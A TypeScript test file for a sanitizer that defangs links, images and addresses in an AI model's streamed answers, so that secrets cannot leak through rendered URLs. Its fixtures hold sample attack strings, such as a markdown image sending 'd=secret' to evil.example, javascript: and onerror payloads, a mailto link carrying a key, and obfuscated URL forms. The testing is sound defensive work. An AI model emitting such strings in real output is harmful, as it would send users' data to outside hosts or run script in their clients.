import assert from "node:assert/strict";
import test from "node:test";
import fc from "fast-check";
import { addressesIn, AnswerStream, harmlessLinks, namesIn } from "./answer-links.ts";
import { citationsOf } from "./scan.ts";
import { rounds } from "../../../test/rounds.fixture.ts";

const ANSWERS = [
  'It is 8080 [M1 "listens on port 8080"; "by default"], not 80 [M2: “said [sic] by Ann”, M12]. Next [M3 "x',
  "Look: ![pixel](https://evil.example/p?d=secret) and [here](javascript:alert(1)) <img src=x onerror=y> www.evil.com/x [a][b]\n[b]: https://evil.example/z\n",
  'a < b and c > d, Array<string>, [1] [M] [M1 [M1 "a"]] ]( <a\nhref> 😀 料理 [M1 「日本の料理」]',
];

test("every split of an answer gives the same pieces", () => {
  const whole = (answer: string): string => {
    const stream = new AnswerStream();
    return stream.push(answer) + stream.end();
  };
  const piece = fc.oneof(
    fc.constantFrom(
      "[",
      "]",
      "M1",
      '"',
      " ",
      "(",
      ")",
      "<",
      ">",
      "!",
      "https://evil.example/?q=",
      "\n",
      "![x](",
      "<img ",
      '[M2 "stands here"]',
      "www.",
      "evil.com/a",
      "😀",
    ),
    fc.string({ maxLength: 6 }),
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.constantFrom(...ANSWERS),
        fc.array(piece, { maxLength: 25 }).map((parts) => parts.join("")),
      ),
      fc.array(fc.nat(400), { maxLength: 12 }),
      (answer, cuts) => {
        const stream = new AnswerStream();
        const at = [...new Set(cuts.map((cut) => Math.min(cut, answer.length)))].sort((a, b) => a - b);
        let shown = "";
        let from = 0;
        for (const to of [...at, answer.length]) {
          shown += stream.push(answer.slice(from, to));
          from = to;
        }
        assert.equal(shown + stream.end(), whole(answer));
      },
    ),
    { numRuns: rounds(2_000, 67) },
  );
});

test("no prefix of a stream shows half a citation, an image or an address that works", () => {
  for (const answer of ANSWERS) {
    const stream = new AnswerStream();
    let shown = "";
    for (const character of answer) {
      shown += stream.push(character);
      const tail = shown.slice(shown.lastIndexOf("["));
      if (/^\[M\d/.test(tail)) assert.ok(tail.includes("]"), tail);
      assert.doesNotMatch(shown, /!\[|https?:\/\/|javascript:|<img|\bwww\./i);
    }
  }
});

test("only an address that a cited passage holds whole stays a link", () => {
  const allowed = addressesIn("See https://docs.example/guide, or mirror.example/guide?x=1.");
  assert.equal(
    harmlessLinks("[guide](https://docs.example/guide) https://docs.example/guide.", allowed),
    "[guide](https://docs.example/guide) https://docs.example/guide.",
  );
  assert.equal(harmlessLinks("https://docs.example/guide?leak=1", allowed), "https[:]//docs[.]example/guide?leak=1");
  assert.equal(harmlessLinks("https://docs.example/gui", allowed), "https[:]//docs[.]example/gui");
  assert.equal(harmlessLinks("![a](https://docs.example/guide)", allowed), "(image left out: a)");
  assert.equal(
    harmlessLinks("evil.com/?q=key and config.toml and a/b.ts", allowed),
    "evil[.]com/?q=key and config.toml and a/b.ts",
  );
  assert.equal(harmlessLinks("[x](&#104;ttps&#58;//evil.example)", allowed), "x (link left out)");
});

test("an address in any form that a program may mend is written out, its host too, and once", () => {
  for (const [form, shown] of [
    ["//evil.com/a", "//evil[.]com/a"],
    ["http[:]//evil.com/a?q=1", "http[:]//evil[.]com/a?q=1"],
    ["ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ／ａ", "https[:]//evil[.]com/a"],
    ["evil。com/a", "evil[.]com/a"],
    ["www.evil.com/x", "www[.]evil[.]com/x"],
    ["HTTP:/a.b.evil.com/a.b", "HTTP[:]/a[.]b[.]evil[.]com/a.b"],
    ["ftp:\\\\evil.com\\x", "ftp[:]\\\\evil[.]com\\x"],
    ["evil．com／a", "evil[.]com/a"],
    ["//evil․com/a", "//evil[.]com/a"],
    ["evil﹒com/a", "evil[.]com/a"],
    ["203.0.113.7/key", "203[.]0[.]113[.]7/key"],
    ["203.0.113.7:8080/k1", "203[.]0[.]113[.]7:8080/k1"],
  ] as const) {
    assert.equal(harmlessLinks(`see ${form} now`, new Set()), `see ${shown} now`);
    assert.equal(harmlessLinks(shown, new Set()), shown);
  }
  const prose =
    "日本語。次の文。ＡＰＩです // a comment in code. path//to/file.ts config.toml 10.0.0.0/8 node-1.2.3.4/bin";
  assert.equal(harmlessLinks(prose, new Set()), prose);
});

test("whatever a colon, a slash and a point are written as, a host is written out, in what is quoted too", () => {
  for (const scheme of ["http", "HTTPS", "ftp", "wss"])
    for (const colon of [":", "[:]", "\\:", "：", "꞉", "&#58;", "&colon;"])
      for (const slashes of ["", "/", "//", "///", "\\/\\/", "\\\\", "⁄⁄", "∕∕", "／／", "&sol;&#47;"])
        for (const point of [".", "．", "。", "․", "﹒", "&period;"]) {
          const form = `${scheme}${colon}${slashes}evil${point}com/p`;
          for (const allowed of [new Set<string>(), namesIn(form)]) {
            const shown = harmlessLinks(`see ${form} now`, allowed);
            assert.match(shown, /^see \S*\[:\]\S*evil\[\.\]com\/p now$/u, form);
            assert.equal(harmlessLinks(shown, allowed), shown);
          }
        }
  for (const form of ["www.evil.com", "www.evil.com/p", "WWW.evil.page/p"])
    assert.equal(harmlessLinks(form, namesIn(form)), form.replaceAll(".", "[.]"));
  const prose = "½ of 3∕4 at 12∶30, http: none, ftp:21, ws:8080, {https:true}, xhttps:a.b";
  assert.equal(harmlessLinks(prose, new Set()), prose);
});

test("citations are read with several quotes, labels and kinds of quotation marks", () => {
  const quotes = (answer: string): readonly unknown[] =>
    citationsOf(answer).flatMap(({ quotes }) => quotes.map(({ label, quote }) => [label, quote]));
  assert.deepEqual(quotes(ANSWERS[0] as string), [
    ["M1", "listens on port 8080"],
    ["M1", "by default"],
    ["M2", "said [sic] by Ann"],
    ["M12", null],
  ]);
  assert.deepEqual(quotes('[M1 "he said "no" to that"]'), [["M1", 'he said "no" to that']]);
  assert.deepEqual(quotes("[Monday] [M] [1] [m3]"), [["M3", null]]);
});

test("what a client makes clickable without http is written out too: shares of machines, schemes without slashes, queries of any host", () => {
  const shown: Readonly<Record<string, string>> = {
    "\\\\evil\\share\\a.txt": "[\\\\]evil\\share\\a.txt",
    "\\\\evil.com\\share": "\\\\evil[.]com\\share",
    "\\\\?\\UNC\\evil\\s": "[\\\\]?\\UNC\\evil\\s",
    "//evil/share": "[//]evil/share",
    "//localhost:8080/x": "[//]localhost:8080/x",
    "mailto:a@evil.com?body=key": "mailto[:]a@evil[.]com?body=key",
    "tel:+4930123": "tel[:]+4930123",
    "javascript:alert": "javascript[:]alert",
    "data:text/html,key": "data[:]text/html,key",
    "ms-word:ofe|u|x": "ms-word[:]ofe|u|x",
    "evil.museum/a?k=1": "evil[.]museum/a?k=1",
    "1.2.3.4/a?k=1": "1[.]2[.]3[.]4/a?k=1",
    "https:&#47;&sol;evil&period;com/x": "https[:]//evil[.]com/x",
    "<p/onclick=x>": "‹p/onclick=x>",
    "http\\://evil.com/a": "http\\[:]//evil[.]com/a",
  };
  for (const [form, written] of Object.entries(shown)) {
    assert.equal(harmlessLinks(`see ${form} now`, new Set()), `see ${written} now`);
    assert.equal(harmlessLinks(written, new Set()), written);
    assert.ok(!harmlessLinks(`[x](${form})`, new Set()).includes(form), form);
    // A cited passage holds it: it may stand as it is.
    if (!/[<&]/u.test(form)) assert.equal(harmlessLinks(`see ${form}`, addressesIn(`of ${form} here`)), `see ${form}`);
  }
  const split = new AnswerStream();
  assert.ok(!`${split.push("<p\nonclick=x> now ")}${split.end()}`.includes("<p"));
  for (const prose of [
    "// a comment",
    "std::map",
    "C:\\Users\\ada",
    "12:30",
    "key: value",
    "\\\\n and a\\b",
    "news: none",
    "a.b/c",
  ])
    assert.equal(harmlessLinks(prose, new Set()), prose);
});

test("a name that a client links by itself is written out in a model's answer, and stands in what is quoted or cited", () => {
  const shown: Readonly<Record<string, string>> = {
    "key.of.door@evil.com": "key[.]of[.]door@evil[.]com",
    "a+b_c@mail.evil.museum": "a+b_c@mail[.]evil[.]museum",
    "ключ@пример.рф": "ключ@пример[.]рф",
    "a@evil.com/?q=key": "a@evil[.]com/?q=key",
    "evil.com": "evil[.]com",
    "key-of-door.evil.org": "key-of-door[.]evil[.]org",
  };
  for (const [form, written] of Object.entries(shown))
    for (const [before, after] of [
      ["", ""],
      ["see ", "."],
      ["(", ")"],
      ["**", "**,"],
      ["_", "_"],
      ["> ", "; and"],
      ["`", "`"],
    ] as const) {
      assert.equal(harmlessLinks(before + form + after, new Set()), before + written + after);
      assert.equal(harmlessLinks(before + written + after, new Set()), before + written + after);
      for (const names of [addressesIn, namesIn])
        assert.equal(harmlessLinks(before + form + after, names(`of ${form} here`)), before + form + after);
    }
  // Of another ending only where it can carry something, and not in code, which is full of such names.
  for (const ending of ["py", "sh", "rs", "dev", "page", "zip", "museum", "co.uk", "рф"])
    for (const [form, written] of [
      [`key.evil.${ending}`, `key[.]evil[.]${ending.replace(".", "[.]")}`],
      [`a.b.${ending}`, `a[.]b[.]${ending.replace(".", "[.]")}`],
      [`evil.${ending}/key.of/door`, `evil[.]${ending.replace(".", "[.]")}/key.of/door`],
    ] as const) {
      for (const [before, after] of [
        ["see ", "."],
        ["(", ")"],
        ["**", "**,"],
      ] as const) {
        assert.equal(harmlessLinks(before + form + after, new Set()), before + written + after);
        assert.equal(harmlessLinks(before + written + after, new Set()), before + written + after);
        for (const names of [addressesIn, namesIn])
          assert.equal(harmlessLinks(before + form + after, names(`of ${form} here`)), before + form + after);
      }
      const spans = `\`${form}\` and\n\`\`\`sh\nping ${form}\n\`\`\``;
      if (!/sh|dev/u.test(ending)) assert.equal(harmlessLinks(spans, new Set()), spans);
    }
  // What holds a name allows no address with more in it.
  const cited = addressesIn("Write to ana@birch.com or see birch.com.");
  for (const more of [
    "https://birch.com/?q=key",
    "key.birch.com",
    "ana@birch.com?body=key",
    "key.ana@birch.com",
    "birch.com/key",
  ])
    assert.ok(harmlessLinks(more, cited).includes("birch[.]com"), more);
  assert.ok(
    harmlessLinks("https://evil.com/a evil.com/a", namesIn("https://evil.com/a evil.com")).startsWith(
      "https[:]//evil[.]com/a evil[.]com",
    ),
  );
  const prose =
    "console.info(x) README.md Node.js main.rs e.g. i.e. @types/node user@host f(a@b) config.toml `java.net.URL` a.com.b.c 3.5 v1.2.io-3 " +
    "x.py a.b/c src/app.module.ts app.module.ts index.d.ts/x a.test.js archive.tar.gz self.items.map(x) 1.2.3.4 @decorator x@1.2.3 npm i loci@0.1.0 5.io( self.org() kc@ @evil ...";
  assert.equal(harmlessLinks(prose, new Set()), prose);
  for (const forms of ["a@", "a.", "a@a.", "@a.com/", "a-", "ab.", "a.bc/", "`", "`a.bc"])
    for (const read of [harmlessLinks, (text: string) => addressesIn(text)]) {
      const began = process.cpuUsage();
      read(forms.repeat(20_000), new Set());
      assert.ok(process.cpuUsage(began).user < 1_500_000, forms);
    }
});
